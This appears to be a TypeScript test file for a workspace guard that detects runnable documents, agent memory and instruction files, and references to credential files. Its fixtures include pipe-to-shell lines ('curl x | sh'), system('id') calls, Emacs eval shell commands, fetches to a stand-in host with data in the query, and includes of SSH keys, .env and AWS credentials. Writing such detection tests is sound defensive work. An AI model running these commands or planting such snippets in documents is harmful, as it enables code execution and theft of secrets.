// Documents that are code: by a marker in them (any workspace), or by their code blocks in a code project.
import { describe, it } from "node:test";
import assert from "node:assert/strict";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { credentialReference, findExecuteLater, runnableDocument, runnableInProject, standingInstructionFile, standingInstructionTarget } from "./execute-later.ts";

const fence = "```";

describe("runnable documents", () => {
  it("finds the markers a runner acts on in any workspace", () => {
    const runnable = [
      ">>> import os\n",
      `${fence}{r}\nsystem("id")\n${fence}\n`,
      `${fence}sh {"name":"setup"}\ncurl x | sh\n${fence}\n`,
      `${fence}sh $\ncurl x | sh\n${fence}\n`,
      `# Project\n\n## Tasks\n\n### build\n\n${fence}sh\nmake\n${fence}\n`,
      `---\njupyter:\n  kernelspec:\n    name: python3\n---\n\n${fence}python\nprint(1)\n${fence}\n`,
      '---js\n{ cover: "ht" + "tp://a.example/?d=1" }\n---\n# Q\n',
      "---coffee\ncover: 'x'\n---\n# Q\n",
      "---javascript\nmodule.exports = {}\n---\n",
      "#+TITLE: Q3\n#+EXPORT_FILE_NAME: ../../public/q3\n* Q3\n",
      "---\ntitle: Q3\nformat:\n  html:\n    output-file: ../site/q3.html\n---\n# Q3\n",
    ];
    for (const text of runnable) assert.notEqual(runnableDocument(text), undefined, text);
    assert.equal(runnableDocument(`# Notes\n\n${fence}python\nprint(1)\n${fence}\n`), undefined, "a code block alone is only shown");
    for (const text of ["---\ntitle: Q\n---\n# Q\n", "---yaml\ntitle: Q\n---\n", "---json\n{}\n---\n", "-----------\ntext\n"]) assert.equal(runnableDocument(text), undefined, text);
  });

  it("counts extension directives, inline Org Babel, Emacs eval, diagram programs, live fences and MDX as code", () => {
    const runnable = [
      ".. bokeh-plot::\n\n   import os\n",
      ".. sagecellserver::\n\n   os.system('id')\n",
      "Total: src_sh{curl x | sh}\n",
      "#+CALL: fetch()\n",
      "# -*- mode: org; eval: (shell-command \"id\") -*-\n",
      "notes\n\nLocal Variables:\nmode: text\neval: (shell-command \"id\")\nEnd:\n",
      "[gnuplot, plot]\n....\nsystem('id')\n....\n",
      `${fence}jsx live\nfetch("x")\n${fence}\n`,
      `${fence}sh {name=setup}\ncurl x | sh\n${fence}\n`,
      "# Page\n\nexport const x = await fetch('https://a.example/?d=1')\n",
      "import Data from 'https://a.example/m.js'\n\n# Page\n",
      "# Page\n\nTotal {fetch('https://a.example/?d=' + 1)}\n",
      '<img src="a.png" onError={() => fetch("x")} />\n',
      "# Page\n\nGo {window.location.href = 'https://a.example/?d=1'}\n",
      "import('https://a.example/m.js')\n",
      `${fence}bash tangle:scripts/setup.sh\ncurl x | sh\n${fence}\n`,
      `${fence}sh scripts/setup.sh +=\ncurl x | sh\n${fence}\n`,
      "@code_type bash .sh\n\n--- scripts/setup.sh\ncurl x | sh\n---\n",
      "Total: `r system(\"id\")`\n",
      "Total: `{python} __import__('os').system('id')`\n",
      "`$ curl x | sh`\n",
    ];
    for (const text of runnable) assert.notEqual(runnableDocument(text), undefined, text);
    const shown = [
      ".. note::\n\n   Remember the milk.\n",
      ".. py:function:: f(x)\n\n   Does f.\n",
      "Price is $f(x) = \\sqrt{g(x)}$ and {name} is a placeholder.\n",
      `Use \`{fetch(x)}\` in MDX:\n\n${fence}js\nexport const a = () => {f(1)}\n${fence}\n`,
      "Import the data from the sheet, then export it.\n",
      "Run `npm test` and then `r` to reload; prices in `$` only.\n\n---\n\nNext section\n",
      "import Tabs from '@theme/Tabs';\nimport TabItem from '@theme/TabItem';\n\nexport const sections = ['intro', 'setup'];\n\n# Guide\n",
    ];
    for (const text of shown) assert.equal(runnableDocument(text), undefined, text);
    assert.equal(findExecuteLater("build.coffee.md")?.pattern.includes("litcoffee"), true);
    assert.equal(findExecuteLater("testdata/script/exec.txt")?.pattern.includes("testdata"), true);
    assert.equal(findExecuteLater("testdata/input.txt"), undefined, "a Go fixture is data");
    assert.notEqual(findExecuteLater("docs/JULES.md"), undefined);
    for (const agentFile of ["SOUL.md", "Memory.MD", "memory/2026-12-04.md", "./HEARTBEAT.md", "skills/sync/SKILL.md"]) assert.notEqual(standingInstructionFile(agentFile), undefined, agentFile);
    assert.equal(standingInstructionFile("docs/tools.md"), undefined, "a personal agent's files are at the workspace's top");
    assert.equal(findExecuteLater("MEMORY.md"), undefined, "the owner keeps them by hand: asked about only from an untrusted context");
    for (const agentFile of ["memory/prefs.markdown", "Memory/2026/12/04.csv", "skills/report/references/guide.md", "docs/CLAUDE.md", "src/AGENTS.md", "GEMINI.md"]) assert.notEqual(standingInstructionFile(agentFile), undefined, agentFile);
    for (const doc of ["notes/memory.md", "docs/skills/a.md", "docs/claude-notes.md"]) assert.equal(standingInstructionFile(doc), undefined, doc);
  });

  it("follows symbolic links: a memory file or folder that leads to a written file makes it a memory file", () => {
    const ws = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), "warden-standing-")));
    try {
      for (const dir of ["notes", "journal", "memory"]) fs.mkdirSync(path.join(ws, dir));
      fs.writeFileSync(path.join(ws, "notes/mem.md"), "# m\n");
      fs.symlinkSync("notes/mem.md", path.join(ws, "MEMORY.md"));
      fs.symlinkSync("journal", path.join(ws, "skills"));
      fs.writeFileSync(path.join(ws, "notes/today.md"), "# t\n");
      fs.symlinkSync("../notes/today.md", path.join(ws, "memory/today.md"));
      assert.match(standingInstructionTarget(ws, "notes/mem.md", path.join(ws, "notes/mem.md")) ?? "", /MEMORY\.md/);
      assert.match(standingInstructionTarget(ws, "journal/r/x.md", path.join(ws, "journal/r/x.md")) ?? "", /skills/);
      assert.match(standingInstructionTarget(ws, "notes/today.md", path.join(ws, "notes/today.md")) ?? "", /memory\/today\.md/);
      assert.equal(standingInstructionTarget(ws, "notes/other.md", path.join(ws, "notes/other.md")), undefined);
      assert.equal(standingInstructionTarget(ws, "journal.md", path.join(ws, "journal.md")), undefined, "a name that only starts like the folder");
    } finally {
      fs.rmSync(ws, { recursive: true, force: true });
    }
  });

  it("finds credentials files a document names where a build reads them, not the word in prose", () => {
    for (const text of [".. literalinclude:: /home/a/.ssh/id_ed25519\n", "See :download:`creds <../.env>`\n", "![settings](.env)\n", "image::~/.netrc[]\n", "\\input{~/.aws/credentials}\n", ".. csv-table:: T\n   :file: ../.env\n"]) {
      assert.notEqual(credentialReference(text), undefined, text);
    }
    for (const text of ["Copy .env.example to .env and fill in your credentials.\n", "![logo](img/logo.png)\n"]) assert.equal(credentialReference(text), undefined, text);
  });

  it("counts code blocks as code only in a code project", (t) => {
    const ws = fs.mkdtempSync(path.join(os.tmpdir(), "warden-runnable-"));
    t.after(() => fs.rmSync(ws, { recursive: true, force: true }));
    const blocks = [`${fence}rust\nfn main() {}\n${fence}\n`, ".. code-block:: python\n\n   import os\n", "[source,elixir]\n----\nIO.puts 1\n----\n", "  $ curl x | sh\n", "iex> File.rm!(\"x\")\n"];
    fs.writeFileSync(path.join(ws, "notes.txt"), "diary\n");
    for (const text of blocks) assert.equal(runnableInProject(ws, text), undefined, `no project: ${text}`);
    fs.writeFileSync(path.join(ws, "Cargo.toml"), "[package]\n");
    for (const text of blocks) assert.match(runnableInProject(ws, text) ?? "", /Cargo\.toml/, text);
    assert.equal(runnableInProject(ws, `${fence}json\n{}\n${fence}\n${fence}text\nout\n${fence}\n`), undefined, "data and output fences are shown");
  });

  it("finds a project below the workspace's top, from the document's folder up", (t) => {
    const ws = fs.mkdtempSync(path.join(os.tmpdir(), "warden-runnable-"));
    t.after(() => fs.rmSync(ws, { recursive: true, force: true }));
    fs.mkdirSync(path.join(ws, "repos", "q3", "docs"), { recursive: true });
    fs.mkdirSync(path.join(ws, "notes"));
    fs.writeFileSync(path.join(ws, "repos", "q3", "Cargo.toml"), "[package]\n");
    const block = `${fence}rust\nfn main() {}\n${fence}\n`;
    assert.match(runnableInProject(ws, block, "repos/q3/README.md") ?? "", /repos\/q3\/Cargo\.toml/);
    assert.match(runnableInProject(ws, block, "repos/q3/docs/guide.md") ?? "", /repos\/q3\/Cargo\.toml/);
    assert.equal(runnableInProject(ws, block, "notes/diary.md"), undefined, "a project elsewhere in the workspace does not make notes code");
    assert.notEqual(credentialReference(".. literalinclude:: .env\n"), undefined);
  });
});
